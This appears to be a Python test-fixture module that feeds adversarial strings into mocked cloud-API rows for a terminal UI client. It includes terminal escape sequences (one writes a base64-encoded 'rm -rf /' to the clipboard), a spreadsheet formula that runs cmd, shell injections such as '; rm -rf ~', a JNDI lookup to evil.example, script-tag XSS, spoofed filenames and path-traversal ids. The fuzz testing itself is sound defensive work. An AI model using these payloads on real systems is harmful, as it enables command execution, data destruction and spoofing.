"""Texts that a terminal, a markup language, a spreadsheet or a shell would take for a command, and where they stand.

Whoever names a task chooses its texts: each function dresses one row of its API, ids excepted. The ids of Function
Compute are chosen by callers too: `odd_id` has the shapes that have to survive a URL.
"""

import base64
from typing import Any

from tui.cloud.chance import pick

LONG = 20_000
TEXTS = (
    # what a terminal would obey: CSI, OSC 52 (clipboard), OSC 8 (link), OSC 0 (title), DCS, and the same as C1
    "\x1b[2J\x1b[1;1Hgone\x1b[31m red\x1b[0m",
    "\x1b]52;c;cm0gLXJmIC8=\x07clipboard",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;another title\x07\x1b[?1049h",
    "\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\sixel",
    "\x9b31mC1\x9d52;c;eA==\x9c\x90q\x9c\x85next line",
    "NUL\x00inside, bell\x07, back\x08\x08space, delete\x7f",
    "cut in the middle \x1b[38;5",
    "line\r\nbreaks\n\tand tabs\x0b\x0c\u2028separators\u2029",
    # what markup would obey
    "x[/]y",
    "[bold]not bold[/bold] [link=http://evil.example]",
    "[@click=app.quit]quit[/]",
    "<script>alert(1)</script>&amp;",
    # what looks different from what it is
    "invoice\u202egnp.exe\u202c",
    "\u2066isolated\u2069 \u200fright to left\u200e",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "\u200b",
    "p\u0430ypal \ue000 \U000e0041 \ufff9",
    "z\u0337\u0321\u0322\u0310\u0311\u0312\u0313algo\u0338\u033d\u033e\u033f",
    # what is wide, or no character at all
    "\u6570\u636e\u5904\u7406\uff1a\u4efb\u52a1\u5b8c\u6210\uff08\u5168\u89d2\uff09",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "\U0001f3f3\ufe0f\u200d\U0001f308 flag, \U0001f44d\U0001f3fd hand, \U0001f1e8\U0001f1f3",
    "lone \ud800 surrogate",
    "\udfff",
    "L" * LONG,
    "\u9577" * LONG,
    # what a spreadsheet, a shell or a template would obey
    "=cmd|' /C calc'!A0",
    "-rf /",
    "+1+1",
    "@SUM(A1:A9)",
    "--help",
    "; rm -rf ~ # `id` $(id)",
    "${jndi:ldap://evil.example/x} %s%n {0}{} {{7*7}}",
    "'\"\\",
    "null",
    " ",
)
FIT_FOR_A_REQUEST = tuple(text for text in TEXTS if len(text) < LONG and text.isprintable())
OUTPUTS = (*(text.encode("utf-8", "surrogatepass") for text in TEXTS), b"\xff\xfe\x80 no text at all \xc3\x28")
ID_SHAPES = (
    ("", ""),
    ("", "/b?c#d%41 \u202e"),
    ("=", "+1&x=y;z"),
    ("-", " --all"),
    ("../", "/.."),
    ("", "%2F%252e"),
    ("\u5de5\u4f5c-", "-\U0001f469\u200d\U0001f467"),
    ("[/]", "[bold]"),
    ("\x1b[31m", "\x07"),
    (" ", "\u00a0"),
)


def text(n: int, salt: int) -> str:
    """One of the texts, always the same for the same number."""
    return pick(TEXTS, n, 900 + salt)


def odd_id(plain: str, n: int) -> str:
    """The id that a caller with odd taste has chosen."""
    head, tail = pick(ID_SHAPES, n, 950)
    return head + plain + tail


def plain_ids(task_id: str) -> list[str]:
    """What may be plain inside an id."""
    return [
        task_id[len(head) : len(task_id) - len(tail)]
        for head, tail in ID_SHAPES
        if task_id.startswith(head) and task_id.endswith(tail)
    ]


def fc(row: dict[str, Any], n: int) -> None:
    """A row of Function Compute."""
    row["qualifier"] = text(n, 1)
    if row["instanceId"]:
        row["instanceId"] = text(n, 2)
    if row["taskErrorMessage"]:
        row["taskErrorMessage"] = text(n, 3)
    for event in row["events"]:
        if event["eventDetail"]:
            event["eventDetail"] = text(n, 3)


def opensearch(row: dict[str, Any], n: int) -> None:
    """A row of OpenSearch."""
    row["FunctionName"] = text(n, 4)


def training(info: dict[str, Any], n: int) -> None:
    """The evaluation of a training."""
    info[text(n, 5)] = text(n, 6)
    if info["errors"]:
        info["errors"] = [text(n, 7) if n % 2 else {"code": text(n, 8), "message": text(n, 7)}]


def mps(row: dict[str, Any], n: int) -> None:
    """A row of Media Processing, or the detail of a task."""
    row["TaskType"] = text(n, 9)
    if row.get("SubTaskTypes"):
        row["SubTaskTypes"] = [text(n, 10), *row["SubTaskTypes"][1:]]


def tat(row: dict[str, Any], n: int) -> None:
    """A row of Automation Tools."""
    if "CommandName" in row:
        row["CommandName"] = text(n, 11)
    if row["ErrorInfo"]:
        row["ErrorInfo"] = text(n, 12)
    if row["TaskResult"]["Output"]:
        row["TaskResult"]["Output"] = base64.b64encode(pick(OUTPUTS, n, 913)).decode()


def instance(plain: str, n: int) -> str:
    """An instance whose name asks for trouble, and can be sent back in a request."""
    return plain + pick(FIT_FOR_A_REQUEST, n, 914)


def kps(row: dict[str, Any], n: int) -> None:
    """A row of the Key Pair Service."""
    row["server_name"], row["keypair_name"] = text(n, 15), text(n, 16)
    if row.get("task_error_msg"):
        row["task_error_msg"] = text(n, 17)
